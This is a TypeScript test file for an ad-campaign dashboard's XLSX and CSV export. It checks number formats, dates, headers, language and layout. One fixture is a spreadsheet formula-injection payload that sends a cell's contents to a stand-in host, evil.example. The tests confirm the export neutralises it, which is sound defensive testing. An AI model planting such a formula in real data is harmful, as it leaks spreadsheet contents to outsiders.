import { formattersFor } from '@adcontrol/domain/format/format';
import ExcelJS from 'exceljs';
import { beforeAll, describe, expect, it } from 'vitest';
import { i18n, loadTexts } from '../../../app/i18n';
import { makeRow } from '../../../test/campaign-rows';
import type { ColumnId } from '../components/column-ids';
import { type ExportTable, exportTable, toCsv } from './export-table';
import { toXlsx } from './to-xlsx';

const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A3,"Andes")';
const NOW = new Date('2026-11-16T15:00:00.000Z');

const rows = [
  makeRow({ id: 1, name: 'Verano Lácteos', impressions: 1_234_567, ctr: 1.5, cpm: null }),
  makeRow({
    id: 2,
    name: HYPERLINK,
    advertiserName: 'Ñandú Óptica',
    currency: 'USD',
    budget: { total: 1234.5, usd: 1234.5 },
    budgetUsd: 1234.5,
    metric: 'clicks',
    currentCapping: 900,
    neededCapping: 1_250,
    startDate: '2026-11-10T03:00:00.000Z',
    endDate: '2026-11-21T02:59:59.000Z',
  }),
];

const COLUMNS: ColumnId[] = [
  'actions',
  'campaign',
  'status',
  'duration',
  'progress',
  'currentCapping',
  'neededCapping',
  'impressions',
  'ctr',
  'budget',
  'budgetUsd',
  'cpm',
  'advertiser',
];

function tableIn(language: 'en' | 'es', columns: readonly ColumnId[] = COLUMNS): ExportTable {
  return exportTable(rows, columns, {
    format: formattersFor(language),
    t: i18n.getFixedT(language),
    now: NOW,
    exportedAt: '16/11/26 12:00 GMT-3',
  });
}

async function readBack(table: ExportTable, language: 'en' | 'es' = 'en', rightToLeft = false) {
  const blob = await toXlsx(table, {
    format: formattersFor(language),
    aboutSheet: i18n.getFixedT(language)('control.export.aboutSheet'),
    rightToLeft,
  });
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(await blob.arrayBuffer());
  return workbook;
}

beforeAll(async () => {
  await loadTexts('control');
  await i18n.loadLanguages('es');
});

describe("Control's XLSX", () => {
  it('types every figure, with the number format that shows it as the screen does', async () => {
    const workbook = await readBack(tableIn('en'));
    const sheet = workbook.getWorksheet('Campaigns') as ExcelJS.Worksheet;
    const headers = (sheet.getRow(1).values as unknown[]).slice(1);
    expect(headers).toEqual([
      'Campaign',
      'Status',
      'Start',
      'End',
      'Days',
      'Delivered vs target',
      'Time elapsed',
      'Daily capping now',
      'Daily capping needed',
      'Capping metric',
      'Impressions',
      'CTR',
      'Currency',
      'Budget',
      'Budget (USD)',
      'CPM',
      'Advertiser',
    ]);
    const cell = (row: number, title: string) => sheet.getRow(row).getCell(headers.indexOf(title) + 1);

    const impressions = cell(2, 'Impressions');
    expect(impressions.type).toBe(ExcelJS.ValueType.Number);
    expect(impressions.value).toBe(1_234_567);
    expect(impressions.numFmt).toBe('#,##0');

    expect(cell(2, 'CTR').value).toBe(0.015);
    expect(cell(2, 'CTR').numFmt).toBe('0.00%');
    expect(cell(2, 'Delivered vs target').value).toBeCloseTo(0.7285);
    expect(cell(2, 'Delivered vs target').numFmt).toBe('0.0%');

    expect(cell(2, 'Budget').value).toBe(1_500_000);
    expect(cell(2, 'Budget').numFmt).toBe('"CLP" #,##0');
    expect(cell(3, 'Budget').value).toBe(1234.5);
    expect(cell(3, 'Budget').numFmt).toBe('"USD" #,##0.00');
    expect(cell(2, 'Budget (USD)').numFmt).toBe('"USD" #,##0.00');
    expect(cell(3, 'Currency').value).toBe('USD');
    // No CPM before any impression: an empty cell, not a zero or a dash.
    expect(cell(2, 'CPM').type).toBe(ExcelJS.ValueType.Null);

    const start = cell(3, 'Start');
    expect(start.type).toBe(ExcelJS.ValueType.Date);
    expect((start.value as Date).toISOString()).toBe('2026-11-10T00:00:00.000Z');
    expect(start.numFmt).toBe('dd/mm/yy');
    expect((cell(3, 'End').value as Date).toISOString()).toBe('2026-11-20T00:00:00.000Z');
    expect(cell(3, 'Time elapsed').value).toBeCloseTo(0.591);
    expect(cell(3, 'Capping metric').value).toBe('Clicks');

    // A name that would start a formula stays the words it is.
    expect(cell(3, 'Campaign').type).toBe(ExcelJS.ValueType.String);
    expect(cell(3, 'Campaign').value).toBe(HYPERLINK);
    expect(cell(3, 'Advertiser').value).toBe('Ñandú Óptica');
  });

  it('opens on a frozen, filtered header in row 1, with widths that fit, and says how to read it on a second sheet', async () => {
    const workbook = await readBack(tableIn('en'));
    const sheet = workbook.worksheets[0] as ExcelJS.Worksheet;
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    expect(sheet.autoFilter).toBe('A1:Q3');
    expect(sheet.rowCount).toBe(1 + rows.length);
    expect(sheet.getRow(1).font?.bold ?? sheet.getCell('A1').font?.bold).toBe(true);
    // A long heading wraps over its figures, in a row tall enough for it; the widest text sets the width.
    const needed = sheet.getColumn(9);
    expect(sheet.getCell(1, 9).value).toBe('Daily capping needed');
    expect(sheet.getCell(1, 9).alignment?.wrapText).toBe(true);
    expect(needed.width).toBeLessThan('Daily capping needed'.length);
    expect(needed.width).toBeGreaterThanOrEqual('capping'.length + 3);
    expect(sheet.getRow(1).height).toBe(30);
    expect(sheet.getColumn(1).width).toBeGreaterThan(HYPERLINK.length);
    // Printed across, each page under the header.
    expect(sheet.pageSetup).toMatchObject({
      orientation: 'landscape',
      printTitlesRow: '1:1',
      fitToPage: true,
      fitToWidth: 2,
      fitToHeight: 0,
    });

    const about = workbook.worksheets[1] as ExcelJS.Worksheet;
    expect(about.name).toBe('About');
    expect(about.getColumn(1).values).toEqual(
      expect.arrayContaining([
        'Exported 16/11/26 12:00 GMT-3',
        '2 campaigns',
        'Dates are network days, at UTC-03:00 (DD/MM/YY).',
      ]),
    );
  });

  it("names the sheets and columns in the reader's language, and reads right to left when the app does", async () => {
    const workbook = await readBack(tableIn('es'), 'es', true);
    expect(workbook.worksheets.map((sheet) => sheet.name)).toEqual(['Campañas', 'Acerca de']);
    const sheet = workbook.worksheets[0] as ExcelJS.Worksheet;
    expect((sheet.getRow(1).values as unknown[]).slice(1, 4)).toEqual(['Campaña', 'Estado', 'Inicio']);
    expect(sheet.views[0]?.rightToLeft).toBe(true);
  });
});

describe("Control's CSV", () => {
  const linesOf = (csv: string) => csv.split('\r\n');

  it('writes the header first and every figure as a comma-separated spreadsheet in English reads it', () => {
    const csv = toCsv(
      tableIn('en', ['campaign', 'duration', 'impressions', 'ctr', 'budget', 'advertiser']),
      'comma',
    );
    expect(csv.startsWith('\uFEFF')).toBe(true);
    const lines = linesOf(csv.slice(1));
    expect(lines[0]).toBe('Campaign,Start,End,Days,Impressions,CTR,Currency,Budget,Advertiser');
    expect(lines[1]).toBe(
      'Verano Lácteos,2026-11-01,2026-11-30,30,1234567,1.50%,CLP,1500000,Lácteos del Sur',
    );
    // The formula is neutralised; the figures stay figures.
    expect(lines[2]).toBe(
      `"'=HYPERLINK(""http://evil.example/?x=""&A3,""Andes"")",2026-11-10,2026-11-20,30,728500,1.25%,USD,1234.50,Ñandú Óptica`,
    );
    expect(lines[3]).toBe('');
  });

  it('uses semicolons and the decimal comma in Spanish, or the separator the reader chose', () => {
    const table = tableIn('es', ['campaign', 'ctr', 'budget']);
    expect(linesOf(toCsv(table, 'semicolon').slice(1)).slice(0, 3)).toEqual([
      'Campaña;CTR;Moneda;Presupuesto',
      // A cell holding a comma is quoted in either kind of file, as RFC 4180 asks; it still reads as a number.
      'Verano Lácteos;"1,50%";CLP;1500000',
      `"'=HYPERLINK(""http://evil.example/?x=""&A3,""Andes"")";"1,25%";USD;"1234,50"`,
    ]);
    expect(linesOf(toCsv(table, 'comma').slice(1))[2]).toMatch(/,1\.25%,USD,1234\.50$/);
  });
});
